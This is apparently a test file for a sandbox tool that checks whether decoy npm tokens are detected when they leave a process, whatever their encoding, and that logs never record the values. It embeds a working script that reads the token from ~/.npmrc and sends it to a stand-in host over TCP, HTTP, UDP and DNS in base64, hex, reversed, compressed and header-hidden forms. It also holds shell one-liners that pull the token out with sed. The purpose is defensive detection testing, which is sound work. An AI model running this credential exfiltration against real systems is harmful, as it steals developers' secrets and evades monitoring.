// SPDX-License-Identifier: Apache-2.0
// A decoy's value leaves in many spellings; each is told by its label, and no log has a list
// of values.
import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { assertComplete, assertReplays, observations, qp, receiptOf, temporaryFolder } from './lib/qp.mjs';

// Sends the npm token of the home: one way for each port, from 2001 on.
const sender = `
  const fs = require('fs'), net = require('net'), http = require('http'), zlib = require('zlib');
  const dgram = require('dgram'), dns = require('dns').promises;
  const file = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');
  const token = /_authToken=(\\S+)/.exec(file)[1];
  const tcp = (port, ...pieces) => new Promise((done) => {
    const socket = net.connect({ port, host: '203.0.113.7', noDelay: true }, async () => {
      for (const piece of pieces) {
        socket.write(piece);
        await new Promise((next) => setTimeout(next, 5));
      }
      socket.end();
    });
    socket.on('error', () => {}).on('close', done).resume();
  });
  const post = (port, body, headers) => new Promise((done) => {
    http.request({ host: '203.0.113.7', port, method: 'POST', headers },
      (answer) => answer.resume().on('end', done)).end(body);
  });
  const udp = (port, text) => new Promise((done) => {
    const socket = dgram.createSocket('udp4');
    socket.send(text, port, '203.0.113.7', () => { socket.close(); done(); });
  });
  (async () => {
    await tcp(2001, token);
    await tcp(2002, ...token);
    await tcp(2003, Buffer.from('a' + token).toString('base64'));
    await tcp(2004, Buffer.from(file).toString('base64url'));
    await tcp(2005, Buffer.from(token).toString('hex').toUpperCase());
    await tcp(2006, [...token].reverse().join(''));
    await post(2007, [...token].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''));
    await post(2008, JSON.stringify({ a: JSON.stringify({ b: token }) }).replace(/_/g, '\\\\u005f'));
    await post(2009, zlib.gzipSync(file), { 'content-encoding': 'gzip' });
    await post(2010, zlib.deflateSync(file));
    await post(2011, zlib.deflateRawSync(file), { 'transfer-encoding': 'chunked' });
    await post(2012, 'nothing to see', { authorization: 'Bearer ' + token });
    await udp(2013, token);
    await udp(2014, 'nothing to see');
    const hex = Buffer.from(token).toString('hex');
    await dns.resolve4(hex.slice(0, 50) + '.' + hex.slice(50) + '.t.example');
    await dns.resolve4('plain.example');
  })();`;

const expected = {
  2001: ['plain'], 2002: ['plain'], 2003: ['base64'], 2004: ['base64'], 2005: ['hex'], 2006: ['reversed'],
  2007: ['plain', 'escaped'], 2008: ['plain', 'escaped'], 2009: ['plain', 'compressed'],
  2010: ['plain', 'compressed'], 2011: ['plain', 'compressed'], 2012: ['plain'], 2013: ['plain'],
  2014: undefined,
};

test('every spelling of a value that leaves is recognised, and nothing else', (t) => {
  const folder = temporaryFolder(t);
  fs.writeFileSync(path.join(folder, 'sender.cjs'), sender);
  const run = receiptOf(t, ['exec', '--in', folder, '--', 'node', 'sender.cjs']);
  assert.equal(run.code, 20, run.stderr);
  const seen = [...observations(run.receipt, 'net-tcp'), ...observations(run.receipt, 'net-udp')];
  for (const [port, encodings] of Object.entries(expected)) {
    const o = seen.find((x) => x.port === Number(port));
    assert.ok(o, `port ${port}`);
    assert.deepEqual(o.decoyEncodings, encodings, `port ${port}`);
    assert.deepEqual(o.decoys, encodings && ['npm-token'], `port ${port}`);
  }
  const names = observations(run.receipt, 'net-dns');
  const split = names.find((o) => o.dest.endsWith('.t.example'));
  assert.deepEqual([split.decoys, split.decoyEncodings], [['npm-token'], ['hex']]);
  assert.equal(names.find((o) => o.dest === 'plain.example').decoys, undefined);
  const c2 = run.receipt.rulesFired.find((rule) => rule.id === 'c2');
  assert.equal(c2.observationIds.length, 14);
  assert.match(run.stdout, /203\.0\.113\.7.*, with the decoy npm-token/);
  assertComplete(run.receipt);
  assertReplays(run);
});

test('a value among the arguments of another program is rule c2', (t) => {
  const run = receiptOf(t, ['exec', '--', 'sh', '-c',
    'true $(sed -n s/.*_authToken=//p ~/.npmrc); /bin/true $(sed -n s/.*_authToken=//p ~/.npmrc | base64); /bin/true hello']);
  assert.equal(run.code, 20, run.stderr);
  const spawned = observations(run.receipt, 'spawn').filter((o) => o.argv[0] === '/bin/true');
  assert.deepEqual(spawned.map((o) => [o.decoys, o.decoyEncodings]),
    [[['npm-token'], ['base64']], [undefined, undefined]]);
  assert.ok(run.receipt.rulesFired.some((rule) => rule.id === 'c2'));
  const uses = qp(['log', run.log]).stdout.trim().split('\n').map((line) => JSON.parse(line))
    .filter((record) => record.type === 'decoy-use');
  assert.equal(uses.length, 1);
  assert.deepEqual(Object.keys(uses[0].record).sort(), ['cpu', 'decoyEncodings', 'decoys', 'seq']);
  assertReplays(run);
});

test('the log has no value but where the command itself said it', (t) => {
  const run = receiptOf(t, ['exec', '--', 'sh', '-c', 'sed -n s/.*_authToken=//p ~/.npmrc']);
  const [token] = /^npm_[A-Za-z0-9]{36}$/m.exec(run.receipt.logs.sandboxOutput);
  const printed = qp(['log', run.log]).stdout.split('\n').filter((line) => line.includes(token));
  // Only what the command itself printed has it.
  assert.ok(printed.length > 0);
  for (const line of printed) assert.equal(JSON.parse(line).type, 'output');
});
